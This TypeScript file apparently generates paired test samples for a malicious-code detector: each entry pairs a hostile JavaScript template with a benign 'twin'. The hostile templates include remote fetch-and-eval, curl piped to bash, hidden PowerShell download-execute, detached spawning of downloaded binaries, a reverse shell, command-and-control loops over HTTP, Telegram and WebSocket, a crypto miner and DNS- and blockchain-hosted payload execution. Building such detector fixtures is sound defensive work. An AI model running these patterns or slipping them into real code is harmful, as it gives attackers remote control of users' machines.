import { urlOf, type Target } from '../target.ts'
import type { JsDeed } from './deed.ts'
import { home } from './sources.ts'
import type { JsWriter } from './writer.ts'

/** A request whose text is handed to `use`. */
function text(w: JsWriter, target: Target, path: string, use: (body: string) => string): string {
  const body = w.fresh('body')
  return `${w.fn(target.scheme, 'get')}(${w.text(urlOf(target, path))}, (res) => {\nlet ${body} = '';\nres.on('data', (c) => { ${body} += c; });\nres.on('end', () => {\n${use(body)}\n});\n}).on('error', () => {});`
}

function bytes(w: JsWriter, target: Target, path: string, use: (buffer: string) => string): string {
  const buffer = w.fresh('buffer')
  return `${w.global('fetch')}(${w.text(urlOf(target, path))}).then((res) => res.arrayBuffer()).then((data) => {\nconst ${buffer} = Buffer.from(data);\n${use(buffer)}\n}).catch(() => {});`
}

const spawn = (w: JsWriter): string => w.fn('child_process', 'spawn')
const DETACHED = "{ detached: true, stdio: 'ignore' }"
const parsed: JsDeed['twin'] = (w, target) =>
  text(
    w,
    target,
    '/v1/formats.json',
    (body) => `const formats = JSON.parse(${body});\nconsole.log(Object.keys(formats).length);`,
  )

/** A file of the package's own host whose hash is known beforehand, into the package's own folder. */
const pinned: JsDeed['twin'] = (w, target) =>
  bytes(
    w,
    target,
    '/v1.4.2/data.bin',
    (buffer) =>
      `const sum = ${w.fn('crypto', 'createHash')}('sha256').update(${buffer}).digest('hex');\nif (sum !== '${'5f'.repeat(32)}') throw new Error('the checksum of data.bin differs');\n${w.fn('fs', 'writeFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('data.bin')}), ${buffer});`,
  )

/** A command of the machine whose output is shown. */
const version: JsDeed['twin'] = (w) =>
  `${w.fn('child_process', 'exec')}('git --version', (error, out) => console.log(String(out).trim()));`

const listening: JsDeed['twin'] = (w) =>
  `const server = ${w.fn('net', 'createServer')}((socket) => socket.end('ready'));\nserver.listen(0, ${w.text('127.0.0.1')}, () => {\n${spawn(w)}(process.execPath, ['--version'], { stdio: 'inherit' });\nserver.close();\n});`

function temporary(w: JsWriter, file: string): string {
  return `${w.fn('path', 'join')}(${w.fn('os', 'tmpdir')}(), ${w.text(file)})`
}

/** Code and programs that come from elsewhere. */
export const JS_REMOTE: Readonly<Record<string, JsDeed>> = {
  'fetch-eval': { bad: (w, t) => text(w, t, '/s.js', (body) => `${w.global('eval')}(${body});`), twin: parsed },
  'fetch-function': {
    bad: (w, t) => text(w, t, '/s.txt', (body) => `new (${w.global('Function')})('require', ${body})(require);`),
    twin: parsed,
  },
  'fetch-vm': {
    bad: (w, t) => text(w, t, '/s', (body) => `${w.fn('vm', 'runInThisContext')}(${body});`),
    twin: parsed,
  },
  'fetch-json-eval': {
    bad: (w, t) =>
      `${w.global('fetch')}(${w.text(urlOf(t, '/cfg'))}).then((r) => r.json()).then((r) => {\n${w.global('eval')}(r.model);\n}).catch(() => {});`,
    twin: parsed,
  },
  'axios-error-eval': {
    bad: (w, t) =>
      `${w.fn('axios', 'get')}(${w.text(urlOf(t, '/api'))}).then((r) => r.data).catch((e) => {\nnew (${w.global('Function')}.constructor)('require', e.response.data.token)(require);\n});`,
    twin: (w, t) =>
      `${w.fn('axios', 'get')}(${w.text(urlOf(t, '/api'))}).then((r) => console.log(r.data.length)).catch((e) => console.log(e.message));`,
  },
  'fetch-write-require': {
    bad: (w, t) => {
      const path = w.fresh('path')
      return `const ${path} = ${temporary(w, 'm.js')};\n${text(w, t, '/m.js', (body) => `${w.fn('fs', 'writeFileSync')}(${path}, ${body});\n${w.required(path)};`)}`
    },
    twin: pinned,
  },
  'fetch-write-node': {
    bad: (w, t) => {
      const path = w.fresh('path')
      return `const ${path} = ${temporary(w, 'm.js')};\n${text(w, t, '/m.js', (body) => `${w.fn('fs', 'writeFileSync')}(${path}, ${body});\n${spawn(w)}(process.execPath, [${path}], ${DETACHED}).unref();`)}`
    },
    twin: pinned,
  },
  'fetch-binary': {
    bad: (w, t) => {
      const path = w.fresh('path')
      return `const ${path} = ${temporary(w, 'svc')};\n${bytes(w, t, '/b', (buffer) => `${w.fn('fs', 'writeFileSync')}(${path}, ${buffer});\n${w.fn('fs', 'chmodSync')}(${path}, 0o755);\n${spawn(w)}(${path}, [], ${DETACHED}).unref();`)}`
    },
    twin: pinned,
  },
  'pipe-binary': {
    bad: (w, t) => {
      const path = w.fresh('path')
      const out = w.fresh('out')
      return `const ${path} = ${temporary(w, 'upd.exe')};\nconst ${out} = ${w.fn('fs', 'createWriteStream')}(${path});\n${w.fn(t.scheme, 'get')}(${w.text(urlOf(t, '/upd.exe'))}, (res) => res.pipe(${out}));\n${out}.on('finish', () => {\n${w.fn('child_process', 'execFile')}(${path});\n});`
    },
    twin: pinned,
  },
  'fetch-archive': {
    bad: (w, t) => {
      const dir = w.fresh('dir')
      return `const ${dir} = ${temporary(w, 'pk')};\n${bytes(w, t, '/pk.tgz', (buffer) => `${w.fn('fs', 'writeFileSync')}(${dir} + '.tgz', ${buffer});\n${w.fn('child_process', 'execSync')}('mkdir -p ' + ${dir} + ' && tar xzf ' + ${dir} + '.tgz -C ' + ${dir});\n${spawn(w)}(process.execPath, [${dir} + '/main.js'], ${DETACHED}).unref();`)}`
    },
    twin: pinned,
  },
  'curl-bash': {
    bad: (w, t) => `${w.fn('child_process', 'exec')}(${w.text(`curl -fsSL ${urlOf(t, '/i.sh')} | bash`)});`,
    twin: version,
  },
  'powershell-iex': {
    bad: (w, t) =>
      `${w.fn('child_process', 'exec')}(${w.text(`powershell -w hidden -c "iex (iwr ${urlOf(t, '/p.ps1')} -UseBasicParsing)"`)});`,
    twin: version,
  },
  'foreign-package': {
    bad: (w, t) => `${w.fn('child_process', 'execSync')}(${w.text(`npm install --no-save ${urlOf(t, '/p.tgz')}`)});`,
    twin: version,
  },
  'dns-eval': {
    bad: (w, t) =>
      `${w.fn('dns', 'resolveTxt')}(${w.text(t.host)}, (error, records) => {\n${w.global('eval')}(Buffer.from(records.flat().join(''), 'base64').toString());\n});`,
    twin: (w, t) =>
      `${w.fn('dns', 'resolveTxt')}(${w.text(t.host)}, (error, records) => {\nconsole.log(error ? 'offline' : records.length);\n});`,
  },
  'reverse-shell': {
    bad: (w, t) =>
      `const sh = ${spawn(w)}(process.platform === 'win32' ? ${w.text('cmd.exe')} : ${w.text('/bin/sh')}, []);\nconst client = new (${w.fn('net', 'Socket')})();\nclient.connect(${t.port}, ${w.text(t.host)}, () => {\nclient.pipe(sh.stdin);\nsh.stdout.pipe(client);\nsh.stderr.pipe(client);\n});`,
    twin: listening,
  },
  'command-loop': {
    bad: (w, t) =>
      `setInterval(() => {\n${text(w, t, '/cmd', (body) => `${w.fn('child_process', 'exec')}(${body}, (error, out) => {\n${w.global('fetch')}(${w.text(urlOf(t, '/out'))}, { method: 'POST', body: out });\n});`)}\n}, 60000);`,
    twin: (w, t) =>
      text(
        w,
        t,
        '/v1/version',
        (body) => `if (${body} !== '1.4.2') console.log('a newer version is there: ' + ${body});`,
      ),
  },
  'chat-bot-shell': {
    bad: (w, t) =>
      `const Bot = ${w.mod('node-telegram-bot-api')};\nconst bot = new Bot(${w.text('1042:inert')}, { polling: true, baseApiUrl: ${w.text(urlOf(t, ''))} });\nbot.on('message', (m) => {\n${w.fn('child_process', 'exec')}(m.text, (error, out) => bot.sendMessage(m.chat.id, out));\n});`,
    twin: (w) =>
      `const Bot = ${w.mod('node-telegram-bot-api')};\nexports.reply = function (token) {\nconst bot = new Bot(token, { polling: true });\nbot.on('message', (m) => bot.sendMessage(m.chat.id, 'you said: ' + m.text));\n};`,
  },
  'websocket-shell': {
    bad: (w, t) =>
      `const ws = new (${w.global('WebSocket')})(${w.text(urlOf(t, '/ws').replace('http', 'ws'))});\nws.onmessage = (m) => {\n${w.fn('child_process', 'exec')}(m.data, (e, out) => ws.send(out));\n};`,
    twin: (w, t) =>
      `exports.watch = function (seen) {\nconst ws = new (${w.global('WebSocket')})(${w.text(urlOf(t, '/ws').replace('http', 'ws'))});\nws.onmessage = (m) => seen(JSON.parse(m.data));\n};`,
  },
  miner: {
    bad: (w, t) =>
      `${spawn(w)}(${w.text('./bin/xmrig')}, ['-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')}, '--donate-level', '1'], ${DETACHED}).unref();`,
    twin: (w) => `${spawn(w)}(process.execPath, [${w.command('./index.js')}, '--version'], { stdio: 'inherit' });`,
  },
  'blockchain-host-eval': {
    bad: (w, t) =>
      `${w.global('fetch')}(${w.text(urlOf(t, '/rpc'))}, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x0000000000000000000000000000000000001042' }, 'latest'] }) }).then((r) => r.json()).then((r) => ${w.global('fetch')}(Buffer.from(r.result.slice(2), 'hex').toString())).then((r) => r.text()).then((code) => {\n${w.global('eval')}(code);\n});`,
    twin: (w, t) =>
      `exports.balance = function (to) {\nreturn ${w.global('fetch')}(${w.text(urlOf(t, '/rpc'))}, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to }, 'latest'] }) }).then((r) => r.json()).then((r) => BigInt(r.result));\n};`,
  },
  'self-update-home': {
    bad: (w, t) =>
      bytes(
        w,
        t,
        '/agent.js',
        (buffer) =>
          `const agent = ${home(w, '.local/share/agent.js')};\n${w.fn('fs', 'writeFileSync')}(agent, ${buffer});\n${w.fn('child_process', 'fork')}(agent, [], { detached: true });`,
      ),
    twin: pinned,
  },
}
